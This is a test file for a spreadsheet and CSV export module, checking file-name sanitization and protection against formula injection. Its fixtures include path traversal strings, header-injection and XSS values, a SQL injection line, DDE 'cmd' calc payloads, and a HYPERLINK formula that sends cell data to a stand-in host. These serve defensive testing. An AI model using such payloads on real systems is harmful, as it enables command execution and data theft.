import { readXlsx } from 'hucre'
import { describe, expect, it } from 'vitest'
import { parseCsv } from '../../../server/catalogue/csv.js'
import { contentDisposition, fileName } from '../../../server/export/content-disposition.js'
import { csvText } from '../../../server/export/csv.js'
import { officialWorkbook } from '../../../server/export/official-layout.js'
import { writeWorkbook } from '../../../server/export/spreadsheet.js'
import { documentOf } from './sample-sheet.js'

describe('the name of a file to take away', () => {
  it.each([
    '../../etc/passwd',
    '..\\..\\windows\\system32\\config',
    '/etc/passwd.csv',
    'C:\\autoexec.bat',
    '....//....//x.csv',
    '..',
    '.',
    ' . . ',
    '',
    '.htaccess',
    'CON',
    'con.csv',
    'LPT1.xlsx',
    'a\0.csv',
    'a\r\nset-cookie: x=1\r\n.csv',
    'a"; filename="b.exe',
    "a'; filename*=UTF-8''b.exe",
    '\u202Exslx.exe',
    '表\u2028单.csv',
    '名'.repeat(300),
    '<img src=x onerror=alert(1)>.csv',
    '|calc|.csv',
    '\ud800.csv',
  ])('%j leads nowhere and breaks out of nothing', (name) => {
    const tidy = fileName(name)
    expect(tidy).not.toMatch(/[/\\:*?"<>|\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u)
    expect(tidy).not.toMatch(/^[. ]|[. ]$/)
    expect(tidy).not.toMatch(/^(con|prn|aux|nul|com\d|lpt\d)(\.|$)/i)
    expect(tidy).not.toBe('')
    expect(Buffer.byteLength(tidy)).toBeLessThanOrEqual(241)
    const header = contentDisposition(name, name)
    expect(header).toMatch(/^attachment; filename="[\w.-]*"; filename\*=UTF-8''[A-Za-z0-9!#$&+.^_`|~%-]+$/)
    expect(() => new Headers({ 'content-disposition': header })).not.toThrow()
  })

  it('an honest name stays as it is', () => {
    expect(fileName('2024年3月沙湾社区 基层治理活动统计表(演示数据).xlsx')).toBe(
      '2024年3月沙湾社区 基层治理活动统计表(演示数据).xlsx',
    )
  })
})

describe('what people typed, in a file', () => {
  const nasty = [
    '=1+1',
    '=HYPERLINK("http://evil.example?"&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '<img src=x onerror=alert(1)>',
    "'; DROP TABLE cells; --",
    ']]></t></is></c><c t="n"><f>1+1</f></c>',
  ]

  it.each(nasty)('%j is text in xlsx, and no formula in csv', async (text) => {
    const document = documentOf('T-1', { 202403: { '440307002001': { 'A.1': 3, 'A.5': text } } })
    const { sheets } = await readXlsx(await writeWorkbook(officialWorkbook(document)))
    const [sheet] = sheets
    const values = (sheet?.rows ?? []).flat().filter((value) => typeof value === 'string')
    expect(values.map((value) => value.trim())).toContain(text.trim())
    for (const cell of sheet?.cells?.values() ?? []) {
      expect(cell.formula).toBeUndefined()
      expect(cell.hyperlink).toBeUndefined()
    }
    // Read as a spreadsheet reads it: no field begins with what starts a formula, whatever blanks stand before it.
    for (const { fields } of parseCsv([...csvText(document)].join('')))
      for (const field of fields) expect(field).not.toMatch(/^\s*(?:[=@+]|-\D)/)
  })
})
